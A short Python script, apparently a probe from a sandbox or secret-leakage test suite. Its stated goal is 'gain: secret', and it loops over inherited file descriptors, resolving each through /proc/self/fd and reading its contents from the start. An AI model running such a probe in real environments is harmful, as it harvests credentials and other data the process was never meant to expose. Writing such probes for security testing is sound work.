"""Reads every file descriptor that was left open, from its beginning.

gain: secret
"""

# %%
import os

for fd in range(3, 256):
    take(attempt(os.readlink, f"/proc/self/fd/{fd}"))
    try:
        os.set_blocking(fd, False)
        size = os.fstat(fd).st_size
        take(os.pread(fd, max(size, 2**16), 0))
    except OSError:
        pass
    read(f"/proc/self/fd/{fd}") if attempt(os.lseek, fd, 0, 0) is not None else None
